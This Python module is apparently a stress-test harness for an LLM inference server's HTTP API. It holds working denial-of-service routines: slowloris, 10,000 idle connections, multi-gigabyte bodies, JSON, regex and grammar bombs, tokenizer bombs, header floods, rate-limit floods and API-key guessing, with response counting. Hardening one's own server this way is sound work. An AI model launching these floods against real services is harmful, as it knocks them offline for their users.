"""What a hostile client does, each for some seconds: coroutines that count the answers they get by status."""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field

MIB = 2**20
NUM_IDLE = 10_000
OPENING_SECONDS = 60.0  # that the idle connections may take to be opened
CLOSING_SECONDS = 20.0  # within which the server must then have closed every one of them


@dataclass
class Target:
    """The server, the attacker's own key, and when to stop (monotonic seconds). `answers`: by status, or how it ended else."""

    host: str
    port: int
    key: str
    until: float
    answers: Counter[str] = field(default_factory=Counter)

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def head(self, path: str, *lines: str, method: str = "POST") -> bytes:
        fixed = [f"{method} {path} HTTP/1.1", "Host: x", f"Authorization: Bearer {self.key}"]
        return "\r\n".join([*fixed, "Content-Type: application/json", *lines, "", ""]).encode()

    @contextlib.asynccontextmanager
    async def connection(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """Raises OSError where there is none to be had; that one is cut is counted, and goes no further."""
        reader, writer = await asyncio.wait_for(asyncio.open_connection(self.host, self.port), 10)
        try:
            yield reader, writer
        except (OSError, asyncio.IncompleteReadError):
            self.answers["cut"] += 1
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()

    async def count_answer(self, reader: asyncio.StreamReader, seconds: float = 30.0) -> None:
        try:
            head = await asyncio.wait_for(reader.read(65536), seconds)
        except TimeoutError:
            self.answers["none"] += 1
            return
        self.answers[head[9:12].decode("latin-1") if head else "cut"] += 1

    async def post(self, path: str, body: bytes) -> None:
        async with self.connection() as (reader, writer):
            writer.write(self.head(path, f"Content-Length: {len(body)}", "Connection: close") + body)
            await writer.drain()
            await self.count_answer(reader)
            while await reader.read(65536):
                pass


Attack = Callable[[Target], Awaitable[None]]


async def _many(target: Target, number: int, one: Callable[[Target, int], Awaitable[None]]) -> None:
    """`one` again and again in `number` tasks."""

    async def repeat(index: int) -> None:
        while target.goes_on:
            try:
                await one(target, index)
            except OSError:
                target.answers["refused"] += 1
                await asyncio.sleep(0.1)

    await asyncio.gather(*(repeat(index) for index in range(number)))


async def slow_heads(target: Target) -> None:
    """Slowloris: a byte a second of a head that never ends."""

    async def one(target: Target, _: int) -> None:
        async with target.connection() as (reader, writer):
            answer = asyncio.ensure_future(target.count_answer(reader))
            for byte in target.head("/v1/completions")[:-2] * 100:
                if answer.done() or not target.goes_on:
                    break
                writer.write(bytes((byte,)))
                await asyncio.sleep(1)
            answer.cancel()

    await _many(target, 500, one)


async def slow_bodies(target: Target) -> None:
    async def one(target: Target, _: int) -> None:
        async with target.connection() as (reader, writer):
            writer.write(target.head("/v1/completions", "Content-Length: 100000"))
            answer = asyncio.ensure_future(target.count_answer(reader))
            while target.goes_on and not answer.done():
                writer.write(b" ")
                await asyncio.sleep(1)
            answer.cancel()

    await _many(target, 300, one)


async def idle_connections(target: Target) -> None:
    """Ten thousand that say nothing: first all are opened, as fast as it goes; then, for as long as an attack lasts, each that
    the server closes is opened anew; at the end all must be closed by the server, within the time of its deadlines."""
    hold_seconds = target.until - time.monotonic()
    target.until = time.monotonic() + OPENING_SECONDS
    opening = asyncio.Semaphore(500)
    all_open, is_over = asyncio.Event(), asyncio.Event()
    num_opened = 0

    async def one() -> None:
        nonlocal num_opened
        is_new = True
        while not is_over.is_set():
            try:
                async with opening:
                    stack = contextlib.AsyncExitStack()
                    reader, _ = await stack.enter_async_context(target.connection())
            except (OSError, TimeoutError):
                target.answers["refused"] += 1
                await asyncio.sleep(0.1)
                continue
            target.answers["opened first" if is_new else "opened anew"] += 1
            num_opened += is_new
            is_new = False
            if num_opened == NUM_IDLE:
                all_open.set()
            async with stack:
                await reader.read(1)  # until the server ends it
                target.answers["closed"] += 1

    tasks = [asyncio.ensure_future(one()) for _ in range(NUM_IDLE)]
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(all_open.wait(), OPENING_SECONDS)
        await asyncio.sleep(hold_seconds)
    is_over.set()
    _, left = await asyncio.wait(tasks, timeout=CLOSING_SECONDS)
    target.answers["never closed"] += len(left)
    for task in left:
        task.cancel()


async def huge_bodies(target: Target) -> None:
    async def one(target: Target, index: int) -> None:
        lengths = ("Content-Length: 10000000000", "Transfer-Encoding: chunked")
        async with target.connection() as (reader, writer):
            writer.write(target.head("/v1/completions", lengths[index % 2]))
            answer = asyncio.ensure_future(target.count_answer(reader))
            piece = b" " * 65536 if index % 2 == 0 else b"10000\r\n" + b" " * 65536 + b"\r\n"
            with contextlib.suppress(OSError):
                while target.goes_on:
                    writer.write(piece)
                    await writer.drain()
            await answer

    await _many(target, 8, one)


def _json_bombs() -> list[tuple[str, bytes]]:
    size = 4 * MIB - 1000
    completions, chat = "/v1/completions", "/v1/chat/completions"
    return [
        (completions, b'{"prompt": ' + b"[" * size + b"}"),
        (completions, b"[" * 199 + b"]" * 199),
        (completions, b'{"prompt": [' + b"1," * (size // 2) + b"1]}"),
        (completions, b'{"prompt": [' + b"[1]," * (size // 4) + b"[1]]}"),
        (completions, b'{"prompt": "a"' + b"".join(b',"%d":1' % number for number in range(190_000)) + b"}"),
        (chat, b'{"messages": [' + b"1," * (size // 2) + b"1]}"),
        (chat, b'{"messages": [{"role": "user", "content": [' + b"{}," * (size // 3) + b"{}]}]}"),
        (chat, b'{"messages": [' + b'{"role":"user","content":"a"},' * 90_000 + b"1]}"),
    ]


async def json_bombs(target: Target) -> None:
    bombs = _json_bombs()

    async def one(target: Target, _: int) -> None:
        await target.post(*random.choice(bombs))

    await _many(target, 4, one)


async def invalid_text(target: Target) -> None:
    bodies = [
        b'{"prompt": "\xff\xfe"}',
        b'{"prompt": "\xc3"}',
        b'{"prompt": "\xed\xa0\x80"}',
        b'{"prompt": "\\ud800"}',
        b'{"prompt": "\x00"}',
        b"\xef\xbb\xbf{}",
        '{"prompt": "a", "stop": "\u202e"}'.encode("utf-16"),
        json.dumps({"prompt": "\u202e\u0300" * 10, "max_tokens": 1}).encode(),
        json.dumps({"prompt": "\U000e0001" * 10, "max_tokens": 1}).encode(),
    ]

    async def one(target: Target, _: int) -> None:
        await target.post("/v1/completions", random.choice(bodies))

    await _many(target, 8, one)


async def header_floods(target: Target) -> None:
    heads = [
        target.head("/v1/completions", *(f"X-{number}: a" for number in range(5000))),
        target.head("/v1/completions", "X: " + "a" * MIB),
        target.head("/v1/completions", "a" * MIB + ": x"),
        target.head("/" + "a" * MIB),
        b"\r\n" * MIB,
        bytes(random.Random(0).randbytes(65536)),
    ]

    async def one(target: Target, _: int) -> None:
        async with target.connection() as (reader, writer):
            writer.write(random.choice(heads))
            await target.count_answer(reader)

    await _many(target, 16, one)


async def pipelining(target: Target) -> None:
    async def one(target: Target, _: int) -> None:
        async with target.connection() as (reader, writer):
            writer.write(target.head("/v1/models", method="GET") * 500)
            await target.count_answer(reader)

    await _many(target, 8, one)


def _grammar_bomb(number: int) -> dict[str, object]:
    """Each another, as those that have failed are known."""
    kinds: list[dict[str, object]] = [
        {"regex": f"(a|b|ab){{1,{1000 + number}}}(c{{1,1000}}){{1,1000}}"},
        {"regex": "(" * 2000 + f"a{number}" + ")*" * 2000},
        {"regex": f"(.*a){{{200 + number}}}"},
        {"regex": f"[a-z]*{number}" + "(x?){500}" * 20},
        {"grammar": f"root ::= a{number}\na{number} ::= a{number} a{number} | a{number}"},
        {"grammar": 'root ::= "' + "x" * 200_000 + f'{number}"'},
        {"grammar": "start: " + " | ".join(f'"w{number}{index}"' for index in range(20_000))},
        {"json": {"type": "array", "minItems": 10**6 + number, "items": {"type": "string", "pattern": "(a|aa)+$"}}},
        {"json": {"$ref": "#/$defs/a", "$defs": {"a": {"anyOf": [{"$ref": "#/$defs/a"}, {"const": number}]}}}},
        {"json": {"properties": {f"p{number}_{index}": {"type": "object"} for index in range(5000)}}},
        {"choice": [f"{number}-{index}" for index in range(1024)]},
    ]
    return kinds[number % len(kinds)]


async def grammar_bombs(target: Target) -> None:
    numbers = iter(range(10**6))

    async def one(target: Target, _: int) -> None:
        body = {"prompt": "a", "max_tokens": 4, "structured_outputs": _grammar_bomb(next(numbers))}
        await target.post("/v1/completions", json.dumps(body).encode())

    await _many(target, 4, one)


async def tokenizer_bombs(target: Target) -> None:
    texts = [
        " " * 10**6,
        "a" * 10**6,
        "\u00e9" * 500_000,
        "\U0001f469\u200d" * 100_000,
        "a b" * 300_000,
        "\n \t" * 300_000,
        "".join(random.Random(0).choices("abcdefghij \n\u00e4\u4e16", k=10**6)),
        " " * 70_000,
        "<|im_start|>" * 80_000,
    ]
    paths = ("/v1/completions", "/v1/chat/completions", "/tokenize", "/v1/embeddings")

    async def one(target: Target, index: int) -> None:
        path, text = paths[index % len(paths)], random.choice(texts)
        body: dict[str, object] = {"prompt": text}
        if path == "/v1/chat/completions":
            body = {"messages": [{"role": "user", "content": text}]}
        elif path == "/v1/embeddings":
            body = {"input": text}
        await target.post(path, json.dumps(body).encode())

    await _many(target, 4, one)


async def zero_lengths(target: Target) -> None:
    bodies = [b"", b"{}", b"[]", b'""', b"null", b"0", b'{"prompt": ""}', b'{"prompt": []}', b'{"prompt": [[]]}']
    bodies += [b'{"prompt": [""]}', b'{"messages": []}', b'{"messages": [{}]}', b'{"input": ""}', b'{"model": ""}']
    bodies += [b'{"messages": [{"role": "user", "content": ""}], "max_tokens": 1}', b'{"tokens": []}', b'{"input": []}']
    paths = ("/v1/completions", "/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1/embeddings", "/tokenize")
    raw = [b"", b"\r\n", b" ", b"\r\n\r\n", b"GET  HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n: \r\n\r\n", b"\x00"]

    async def one(target: Target, index: int) -> None:
        if index % 2:
            await target.post(random.choice(paths), random.choice(bodies))
            return
        async with target.connection() as (reader, writer):
            writer.write(random.choice(raw))
            writer.write_eof()
            await target.count_answer(reader, 5)

    await _many(target, 8, one)


async def slow_readers(target: Target) -> None:
    """Ask for long streams and read nothing."""
    body = json.dumps({"prompt": "a", "max_tokens": 500, "n": 4, "ignore_eos": True, "stream": True}).encode()

    async def one(target: Target, _: int) -> None:
        async with target.connection() as (_reader, writer):
            writer.transport.pause_reading()
            writer.write(target.head("/v1/completions", f"Content-Length: {len(body)}") + body)
            await asyncio.sleep(max(0.1, target.until - time.monotonic()))
            target.answers["unread"] += 1

    await _many(target, 2, one)


async def too_many_requests(target: Target) -> None:
    """More than this key may have under way, again and again."""
    body = json.dumps({"prompt": "a", "max_tokens": 16, "ignore_eos": True}).encode()

    async def one(target: Target, _: int) -> None:
        await target.post("/v1/completions", body)

    await _many(target, 100, one)


async def wrong_keys(target: Target) -> None:
    async def one(target: Target, _: int) -> None:
        async with target.connection() as (reader, writer):
            wrong = f"Authorization: Bearer {random.randbytes(16).hex()}"
            writer.write(
                f"POST /v1/completions HTTP/1.1\r\nHost: x\r\n{wrong}\r\nContent-Length: 2\r\n\r\n{{}}".encode()
            )
            await target.count_answer(reader)

    await _many(target, 16, one)


ATTACKS: dict[str, Attack] = {
    "slowloris: 500 heads, a byte a second": slow_heads,
    "300 bodies, a byte a second": slow_bodies,
    "10,000 idle connections": idle_connections,
    "bodies of 10 GB": huge_bodies,
    "JSON bombs of 4 MiB": json_bombs,
    "invalid UTF-8 and the like": invalid_text,
    "header floods": header_floods,
    "pipelining": pipelining,
    "regex and grammar bombs": grammar_bombs,
    "tokenizer bombs": tokenizer_bombs,
    "zero-length everything": zero_lengths,
    "streams that nobody reads": slow_readers,
    "100 requests at once of one key": too_many_requests,
    "guessing keys": wrong_keys,
}

# Seconds that an attack may take beyond what was asked for, where it is more than the usual.
MORE_SECONDS = {"10,000 idle connections": OPENING_SECONDS + CLOSING_SECONDS}
